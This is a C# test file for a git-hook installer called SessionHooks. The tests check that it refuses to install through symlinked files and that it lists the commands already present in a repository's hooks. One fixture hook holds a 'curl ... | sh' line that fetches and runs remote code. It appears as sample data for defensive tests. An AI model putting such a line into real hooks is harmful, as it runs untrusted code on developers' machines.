using SessionHooks.Diagnostics;
using SessionHooks.Install;

namespace SessionHooks.Tests.Install;

/// <summary>Install in a clone whose files SessionHooks owns were committed as links, or whose hook files hold commands of its own.</summary>
public class InstallSafetyTests : InstallFixture
{
    [TestCase(".husky/pre-commit", false)]
    [TestCase(".husky/sessionhooks.sh", false)]
    [TestCase(".husky/task-runner.json", false)]
    [TestCase(".gitattributes", false)]
    [TestCase(".gitignore", false)]
    [TestCase(".sessions/schemas", true)]
    [TestCase(".husky", true)]
    [TestCase(".sessions", true)]
    public void Install_WhereAFileOfOursIsALink_RefusesWithOneLine_AndChangesNothing(string linked, bool folder)
    {
        var outside = Path.Combine(Path.GetDirectoryName(Repo.Root)!, "outside");
        Directory.CreateDirectory(outside);
        var target = Path.Combine(outside, folder ? "folder" : "file");
        if (folder)
        {
            Directory.CreateDirectory(target);
        }
        else
        {
            File.WriteAllText(target, "outside content\n");
        }

        Directory.CreateDirectory(Path.GetDirectoryName(Repo.Path(linked))!);
        File.CreateSymbolicLink(Repo.Path(linked), target);
        var worktree = Snapshot();
        var config = LocalConfig();

        var refused = Assert.Throws<SessionHooksException>(() => HookInstaller.Install(Repo.Root, Hooks.Path))!;

        Assert.That(refused.Diagnostic.Code, Is.EqualTo("SH5007"));
        Assert.That(refused.Diagnostic.File, Is.EqualTo(linked));
        Assert.That(refused.Diagnostic.Render(), Does.Not.Contain("\n").And.Contain("(fix: "));
        Assert.That(LocalConfig(), Is.EqualTo(config), "no git config written");
        Assert.That(Snapshot(), Is.EqualTo(worktree), "no file of the worktree written");
        Assert.That(Directory.GetFileSystemEntries(outside, "*", SearchOption.AllDirectories).Select(Path.GetFileName),
            Is.EqualTo(new[] { folder ? "folder" : "file" }));
        if (!folder)
        {
            Assert.That(File.ReadAllText(target), Is.EqualTo("outside content\n"));
        }
    }

    [Test]
    public void Install_ThatPointsGitAtTheRepositorysHooks_ListsTheCommandsAlreadyInThem()
    {
        Repo.Write(".husky/pre-commit", "#!/bin/sh\n. \"$(dirname \"$0\")/_/husky.sh\"\n\n# run the tests\nnpm test\n");
        Repo.Write(".husky/post-merge", "#!/bin/sh\ncurl -s https://example.com/setup | sh\n");
        MakeExecutable(Repo.Path(".husky/post-merge"));
        Repo.Write(".husky/post-applypatch", "#!/bin/sh\necho not executable, so git skips me\n");
        Repo.Write(".husky/notes.txt", "not a hook\n");

        var result = HookInstaller.Install(Repo.Root, Hooks.Path, new InstallOptions(DryRun: true));

        Assert.That(result.ExistingHookLines, Is.EqualTo(new[]
        {
            ".husky/post-merge:2: curl -s https://example.com/setup | sh",
            ".husky/pre-commit:5: npm test",
        }));
    }

    [Test]
    public void Install_WhereGitRunsTheHooksAlready_ListsNothing()
    {
        Repo.Write(".husky/pre-commit", "#!/bin/sh\nnpm test\n");
        Repo.Run("config", "core.hooksPath", ".husky");

        var result = HookInstaller.Install(Repo.Root, Hooks.Path);

        Assert.That(result.ExistingHookLines, Is.Empty);
    }

    [Test]
    public void Install_HookRunningTheTaskRunner_ListsTheTasksToo()
    {
        Repo.Write(".husky/pre-push", "#!/bin/sh\ndotnet husky run --group pre-push --args \"$@\"\n");
        Repo.Write(".husky/task-runner.json", """
            { "tasks": [ { "name": "format", "group": "pre-push", "command": "dotnet", "args": ["format", "--verify-no-changes"] } ] }
            """);

        var result = HookInstaller.Install(Repo.Root, Hooks.Path, new InstallOptions(DryRun: true));

        Assert.That(result.ExistingHookLines, Does.Contain(".husky/task-runner.json: task 'format' (group pre-push): dotnet format --verify-no-changes"));
    }
}
